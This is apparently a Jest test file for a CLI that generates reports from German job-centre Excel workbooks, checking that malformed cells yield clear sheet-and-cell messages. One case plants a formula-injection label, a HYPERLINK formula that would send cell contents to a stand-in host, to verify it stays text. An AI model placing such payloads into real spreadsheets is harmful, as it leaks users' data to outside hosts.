/**
 * Malformed inputs end to end through the CLI: each gets a message naming sheet and cell, no exception escapes, the
 * input file is byte-for-byte unchanged, the source sheets in the report copy carry the same values, and no text cell
 * of any report sheet became a formula.
 */
import ExcelJS from "exceljs";
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { main } from "../../src/cli/main";

type Build = (wb: ExcelJS.Workbook) => void;

const months = ["Jan 22", "Feb 22", "Mär 22"];
function grunddaten(wb: ExcelJS.Workbook, patch: (ws: ExcelJS.Worksheet) => void = () => undefined, name = "Grunddaten"): void {
  const ws = wb.addWorksheet(name);
  ws.addRow(["Grunddatum", ...months]);
  ws.addRow(["ELB", 1000, 1010, 1020]);
  ws.addRow(["Integrationen", 20, 22, 25]);
  ws.addRow(["LZB", 600, 598, 590]);
  patch(ws);
}
function ziele(wb: ExcelJS.Workbook, patch: (ws: ExcelJS.Worksheet) => void = () => undefined): void {
  const ws = wb.addWorksheet("Ziele");
  ws.addRow(["Kennzahl", "Zielwert", "Toleranz"]);
  ws.addRow(["Integrationsquote", 22, 0.5]);
  ws.addRow(["Bestand Langzeitleistungsbeziehende", 590, 1]);
  patch(ws);
}
function budget(wb: ExcelJS.Workbook, patch: (ws: ExcelJS.Worksheet) => void = () => undefined): void {
  const ws = wb.addWorksheet("EGT 2022");
  ws.addRow(["Zuteilung EGT", 1_000_000]);
  ws.addRow([]);
  ws.addRow(["Kategorie", "Instrument", "Plan", "Ist Jan–Mär", "Bindung"]);
  ws.addRow(["Aktivierung", "Vermittlungsbudget", 400_000, 90_000, 10_000]);
  ws.addRow(["Aufnahme", "EGZ", 600_000, 150_000, 40_000]);
  ws.addRow(["Gesamt", null, 1_000_000, 240_000, 50_000]);
  patch(ws);
}

const CASES: Array<[string, Build, { sheet?: string; cell?: string; text: RegExp }]> = [
  ["text that is not a number", (wb) => grunddaten(wb, (ws) => (ws.getCell("C2").value = "zwölf")), { sheet: "Grunddaten", cell: "C2", text: /„zwölf“ ist keine Zahl/ }],
  ["a boolean where a number belongs", (wb) => grunddaten(wb, (ws) => (ws.getCell("D3").value = true)), { sheet: "Grunddaten", cell: "D3", text: /keine Zahl/ }],
  ["an Excel error value", (wb) => grunddaten(wb, (ws) => (ws.getCell("B4").value = { error: "#DIV/0!" } as ExcelJS.CellErrorValue)), { sheet: "Grunddaten", cell: "B4", text: /fehlender Wert/ }],
  ["a duplicated Grunddaten row", (wb) => grunddaten(wb, (ws) => ws.addRow(["ELB", 1, 2, 3])), { sheet: "Grunddaten", cell: "A5", text: /doppelt/ }],
  ["a Zielwert in words", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("B2").value = "hoch")); }, { sheet: "Ziele", cell: "B2", text: /kein gültiger Zielwert/ }],
  ["a negative tolerance", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("C3").value = -2)); }, { sheet: "Ziele", cell: "C3", text: /Toleranz.*ungültig/ }],
  ["a missing Zielwert", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("B3").value = null)); }, { sheet: "Ziele", cell: "B3", text: /kein Zielwert eingetragen/ }],
  ["an allocation in words", (wb) => budget(wb, (ws) => (ws.getCell("B1").value = "viel")), { sheet: "EGT 2022", cell: "B1", text: /„viel“ ist kein Betrag/ }],
  ["instrument rows that do not add up", (wb) => budget(wb, (ws) => (ws.getCell("C6").value = 1_100_000)), { sheet: "EGT 2022", cell: "C6", text: /Differenz/ }],
  ["an amount in words in the instrument table", (wb) => budget(wb, (ws) => (ws.getCell("D4").value = "später")), { sheet: "EGT 2022", cell: "D4", text: /kein Betrag/ }],
  ["Ist and Bindung above the plan", (wb) => budget(wb, (ws) => (ws.getCell("E4").value = 400_000)), { sheet: "EGT 2022", cell: "B4", text: /überplant/ }],
  [
    "cumulative outflow that falls",
    (wb) => {
      budget(wb);
      const ws = wb.addWorksheet("Monate");
      ws.addRow(["Monat", "Ist kumuliert"]);
      ws.addRow(["Januar 2022", 100_000]);
      ws.addRow(["Februar 2022", 90_000]);
    },
    { sheet: "Monate", cell: "B3", text: /sinken/ },
  ],
  [
    "a case decided before it arrived",
    (wb) => {
      const ws = wb.addWorksheet("Fälle");
      ws.addRow(["Aktenzeichen", "Antragseingang", "Bescheid"]);
      ws.addRow(["A-1", "01.03.2022", "10.03.2022"]);
      ws.addRow(["A-2", "20.03.2022", "10.03.2022"]);
    },
    { sheet: "Fälle", cell: "C3", text: /vor dem Eingang/ },
  ],
  [
    "an impossible date",
    (wb) => {
      const ws = wb.addWorksheet("Fälle");
      ws.addRow(["Aktenzeichen", "Antragseingang", "Bescheid"]);
      ws.addRow(["A-1", "31.02.2022", "10.03.2022"]);
      ws.addRow(["A-2", "01.03.2022", "10.03.2022"]);
    },
    { sheet: "Fälle", cell: "B2", text: /„31\.02\.2022“ ist kein Datum/ },
  ],
  [
    "a case in the future",
    (wb) => {
      const ws = wb.addWorksheet("Fälle");
      ws.addRow(["Aktenzeichen", "Antragseingang", "Bescheid"]);
      ws.addRow(["A-1", "01.03.2022", "10.03.2022"]);
      ws.addRow(["A-2", "01.03.2022", "10.03.2099"]);
    },
    { sheet: "Fälle", cell: "C3", text: /in der Zukunft/ },
  ],
  [
    "a quality row with a month that is not one",
    (wb) => {
      grunddaten(wb);
      const ws = wb.addWorksheet("Qualität");
      ws.addRow(["Kennzahl", "Monat", "Ist"]);
      ws.addRow(["Kundenzufriedenheit (KZI)", "Sommer", 2.1]);
      ws.addRow(["Kundenzufriedenheit (KZI)", "03/2022", 2.2]);
    },
    { sheet: "Qualität", cell: "B2", text: /„Sommer“ ist kein Monat/ },
  ],
  [
    "formula-like labels and a sheet name with quotes and brackets",
    (wb) => {
      grunddaten(wb, () => undefined, "Daten (alt) 'Kopie' & Co");
      // A local indicator whose name is a formula: it is written into the report, and must stay text there.
      const ws = wb.addWorksheet("Ziele");
      ws.addRow(["Kennzahl", "Zielwert", "Einheit", "Richtung"]);
      ws.addRow(['=HYPERLINK("http://x.example/?"&A1)', 5, "Anzahl", "höher"]);
      ws.addRow(["+SUMME(A1:A9)", 5, "Anzahl", "niedriger"]);
    },
    { sheet: "Ziele", cell: "A2", text: /lokale Kennzahl/ },
  ],
  ["a month header row with a month missing its values", (wb) => grunddaten(wb, (ws) => (ws.getCell("D4").value = "k.A.")), { sheet: "Grunddaten", cell: "D4", text: /fehlender Wert/ }],
];

const sha = (path: string) => createHash("sha256").update(readFileSync(path)).digest("hex");
const silent = () => {
  const out: string[] = [];
  return { io: { out: (t: string) => out.push(t), err: (t: string) => out.push(t) }, out };
};

describe("malformed inputs", () => {
  const dir = mkdtempSync(join(tmpdir(), "sc-malformed-"));

  it.each(CASES.map(([name, build, expected], i) => [name, build, expected, i] as const))("%s", async (name, build, expected, i) => {
    const input = join(dir, `eingabe-${i}.xlsx`);
    const output = join(dir, `bericht-${i}.xlsx`);
    const json = join(dir, `bericht-${i}.json`);
    const wb = new ExcelJS.Workbook();
    build(wb);
    await wb.xlsx.writeFile(input);
    const before = sha(input);

    const console = silent();
    const code = await main(["report", input, "--out", output, "--json", json, "--month", "2022-03"], console.io);
    expect([0, 1]).toContain(code);
    expect(console.out.join("\n")).not.toMatch(/\n\s+at .+:\d+:\d+/); // no stack trace
    expect(sha(input)).toBe(before);

    const summary = JSON.parse(readFileSync(json, "utf8"));
    if (expected.sheet) expect(summary.messages).toContainEqual(expect.objectContaining({ sheet: expected.sheet, cell: expected.cell, text: expect.stringMatching(expected.text) }));

    expect(existsSync(output)).toBe(true);
    const source = new ExcelJS.Workbook();
    await source.xlsx.readFile(input);
    const report = new ExcelJS.Workbook();
    await report.xlsx.readFile(output);
    for (const sheet of source.worksheets) {
      expect(JSON.stringify(report.getWorksheet(sheet.name)?.getSheetValues())).toBe(JSON.stringify(sheet.getSheetValues()));
    }
    const sourceNames = new Set(source.worksheets.map((w) => w.name));
    for (const sheet of report.worksheets.filter((w) => !sourceNames.has(w.name))) {
      sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()));
    }
    if (name.startsWith("formula-like")) {
      // The payload did reach the report — as text.
      const cells = JSON.stringify(report.getWorksheet("Ziel-Ist-Vergleich")?.getSheetValues());
      expect(cells).toContain("=HYPERLINK(");
      expect(cells).toContain("+SUMME(A1:A9)");
    }
  });
});
